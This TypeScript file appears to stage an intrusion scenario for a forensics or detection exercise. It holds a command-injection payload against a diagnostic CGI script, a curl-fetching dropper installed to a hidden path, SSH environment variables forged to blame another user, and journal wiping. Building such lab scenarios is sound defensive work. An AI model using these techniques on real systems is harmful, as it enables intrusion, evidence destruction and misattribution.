// Anybody can set SSH_CONNECTION; the control group cannot be chosen by www-data.
import { vulnerableCgi } from '../../cgi.ts'
import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import type { Stage } from '../../stage.ts'
import { wipe } from '../../wiping.ts'

export function dress(dress: Dress): void {
  vulnerableCgi(dress)
  dress.account('chenli', 'Quiet-Harbour-7')
  dress.logins({ days: 20, guesses: 50, friends: [{ user: 'chenli', address: '198.51.100.51', hours: [9, 13, 16] }] })
}

export async function plant(stage: Stage): Promise<void> {
  await stage.ssh('198.51.100.51', 'chenli', { password: 'Quiet-Harbour-7' }, 'uptime')
  const line = dropper(stage, { path: '/var/tmp/.lib/rsyncd', fetch: 'curl', cron: false })
  const forged =
    'env -i PATH=/usr/bin:/bin SSH_CONNECTION="198.51.100.51 50022 10.77.0.2 22" SSH_CLIENT="198.51.100.51 50022 22" USER=chenli'
  stage.mark('occurrence')
  await stage.http('203.0.113.95', `/cgi-bin/diag.cgi?host=${encodeURIComponent(`127.0.0.1; ${forged} sh -c "${line}"`)}`)
  await wipe(stage, ['journal'])
}
